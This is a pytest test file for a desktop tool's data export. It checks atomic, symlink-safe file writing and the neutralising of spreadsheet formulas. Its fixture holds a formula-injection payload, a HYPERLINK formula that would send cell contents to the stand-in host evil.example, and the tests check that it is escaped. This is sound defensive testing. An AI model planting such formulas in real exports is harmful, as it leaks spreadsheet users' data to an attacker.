"""Exports write where the user meant, whole or not at all, and nothing in them runs as a formula."""

from __future__ import annotations

import csv
import io
import os
import stat
import subprocess
import sys
import threading
from pathlib import Path

import pytest
from openpyxl import load_workbook

from bri_desktop.cli import main
from bri_desktop.core.export import ExportStamp, write_export
from bri_desktop.core.safe_write import UnsafeTarget

STAMP = ExportStamp("test", "agreements", "none", 2)
RECORDS = [{"id": "a", "title": "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "citations": []},
           {"id": "b", "title": "@SUM(1+1)", "citations": []}]


def export_to(target: Path, fmt: str = "csv", records=None, stamp=STAMP) -> int:
    return write_export(fmt, target, "sources", iter(records if records is not None else RECORDS),
                        {}, stamp, fields=["id", "title"])


def csv_rows(path: Path) -> list[list[str]]:
    return list(csv.reader(io.StringIO("\n".join(
        x for x in path.read_text(encoding="utf-8").splitlines() if not x.startswith("#")))))


def test_a_symlinked_target_updates_the_file_it_points_to(tmp_path):
    real = tmp_path / "real.csv"
    real.write_text("old")
    link = tmp_path / "link.csv"
    link.symlink_to(real)
    export_to(link)
    assert link.is_symlink() and os.readlink(link) == str(real)
    assert "HYPERLINK" in real.read_text()


def test_a_planted_symlink_at_a_temporary_name_is_never_followed(tmp_path):
    victim = tmp_path / "victim.txt"
    victim.write_text("precious")
    for name in (".out.csv.part", ".out.csv.tmp"):
        (tmp_path / name).symlink_to(victim)
    export_to(tmp_path / "out.csv")
    assert victim.read_text() == "precious"
    assert "HYPERLINK" in (tmp_path / "out.csv").read_text()


def test_the_target_keeps_its_mode_and_its_hard_links(tmp_path):
    target = tmp_path / "out.csv"
    target.write_text("old")
    target.chmod(0o600)
    twin = tmp_path / "twin.csv"
    os.link(target, twin)
    export_to(target)
    assert stat.S_IMODE(target.stat().st_mode) == 0o600
    assert twin.read_text() == target.read_text() and "HYPERLINK" in twin.read_text()
    assert target.stat().st_ino == twin.stat().st_ino


def test_a_new_file_gets_the_users_default_mode(tmp_path):
    old = os.umask(0o022)
    try:
        export_to(tmp_path / "new.csv")
    finally:
        os.umask(old)
    assert stat.S_IMODE((tmp_path / "new.csv").stat().st_mode) == 0o644


def test_a_fifo_is_written_through_and_stays_a_fifo(tmp_path):
    fifo = tmp_path / "pipe"
    os.mkfifo(fifo)
    got: list[bytes] = []
    reader = threading.Thread(target=lambda: got.append(fifo.read_bytes()))
    reader.start()
    export_to(fifo)
    reader.join(10)
    assert stat.S_ISFIFO(fifo.stat().st_mode)
    assert b"HYPERLINK" in got[0]


@pytest.mark.skipif(not Path("/dev/full").exists(), reason="no /dev/full")
def test_a_full_device_gets_a_message_and_stays_a_device(capsys):
    code = main(["export", "sources", "--format", "csv", "-o", "/dev/full"])
    _out, err = capsys.readouterr()
    assert code == 1 and "No space left on device" in err
    assert stat.S_ISCHR(os.stat("/dev/full").st_mode)


def test_a_folder_target_is_refused(tmp_path):
    with pytest.raises(UnsafeTarget, match="is a folder"):
        export_to(tmp_path)


def test_a_failure_while_writing_leaves_the_old_file_and_no_temporary_file(tmp_path):
    target = tmp_path / "out.csv"
    target.write_text("the previous export")

    def failing():
        yield RECORDS[0]
        raise RuntimeError("the disk went away")

    with pytest.raises(RuntimeError):
        export_to(target, records=failing())
    assert target.read_text() == "the previous export"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["out.csv"]


def test_a_stamp_that_disagrees_with_the_rows_writes_nothing(tmp_path):
    target = tmp_path / "out.csv"
    with pytest.raises(Exception, match="stamp says 5"):
        export_to(target, stamp=ExportStamp("test", "agreements", "none", 5))
    assert not target.exists()


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_cells_that_would_run_as_formulas_are_neutralised(tmp_path, fmt):
    target = tmp_path / f"out.{fmt}"
    export_to(target, fmt)
    if fmt == "csv":
        titles = [row[1] for row in csv_rows(target)[1:]]
    else:
        sheet = load_workbook(target).worksheets[0]
        assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
        titles = [row[1] for row in sheet.iter_rows(min_row=2, values_only=True)]
    assert titles == ["'" + RECORDS[0]["title"], "'@SUM(1+1)"]


def test_every_declared_column_is_written_even_when_the_first_record_lacks_it(capsys, db_conn):
    assert main(["export", "events", "--format", "csv"]) == 0
    header = csv_rows_from(capsys.readouterr().out)[0]
    assert "country_code" in header and "country" in header


def csv_rows_from(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO("\n".join(x for x in text.splitlines() if not x.startswith("#")))))


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_an_empty_result_writes_the_header(tmp_path, fmt):
    target = tmp_path / f"empty.{fmt}"
    assert main(["export", "agreements", "--format", fmt, "--search", "zzqqxx", "-o", str(target)]) == 0
    if fmt == "csv":
        import pandas as pd

        frame = pd.read_csv(target, comment="#")
        assert len(frame) == 0 and "title" in frame.columns
    else:
        rows = list(load_workbook(target).worksheets[0].iter_rows(values_only=True))
        assert len(rows) == 1 and "title" in rows[0]


def test_a_search_with_a_line_break_keeps_the_stamp_on_stamp_lines(capsys):
    assert main(["export", "agreements", "--format", "csv", "--search", "KMG\nSinopec"]) == 0
    out = capsys.readouterr().out
    stamp = [line for line in out.splitlines() if "search" in line.lower() and "KMG" in line]
    assert stamp and all(line.startswith("#") for line in stamp)
    assert csv_rows_from(out)[0][0] == "id"


def test_control_characters_reach_an_xlsx_stamp_safely(tmp_path):
    target = tmp_path / "ctl.xlsx"
    assert main(["export", "agreements", "--format", "xlsx", "--search", "KMG\x01", "-o", str(target)]) == 0
    about = dict(load_workbook(target)["About"].iter_rows(values_only=True))
    assert "KMG" in about["Filters"]


def _cli(*args: str, **kwargs) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-m", "bri_desktop", *args], capture_output=True,
                          timeout=60, **kwargs)


def test_a_search_that_is_not_utf8_gets_a_message():
    result = _cli("export", "agreements", "--search", os.fsdecode(b"KMG\xff\xfe"))
    assert result.returncode == 2
    assert b"not valid UTF-8" in result.stderr and b"Traceback" not in result.stderr


def test_closed_standard_output_gets_a_message():
    result = subprocess.run(f"{sys.executable} -m bri_desktop export agreements >&-", shell=True,
                            capture_output=False, stderr=subprocess.PIPE, timeout=60)
    assert result.returncode == 2
    assert b"standard output is closed" in result.stderr and b"Traceback" not in result.stderr


def test_filter_values_are_matched_in_any_case_and_unknown_ones_refused(capsys):
    assert main(["export", "agreements", "--format", "json", "--sector", "energy"]) == 0
    assert capsys.readouterr().out.count('"sector": "Energy"') > 0
    assert main(["export", "agreements", "--sector", "Enrgy"]) == 2
    err = capsys.readouterr().err
    assert "unknown sector 'Enrgy'" in err and "Did you mean 'Energy'" in err
    assert main(["export", "agreements", "--country", "Kazakstan"]) == 2
    assert "Did you mean 'Kazakhstan'" in capsys.readouterr().err
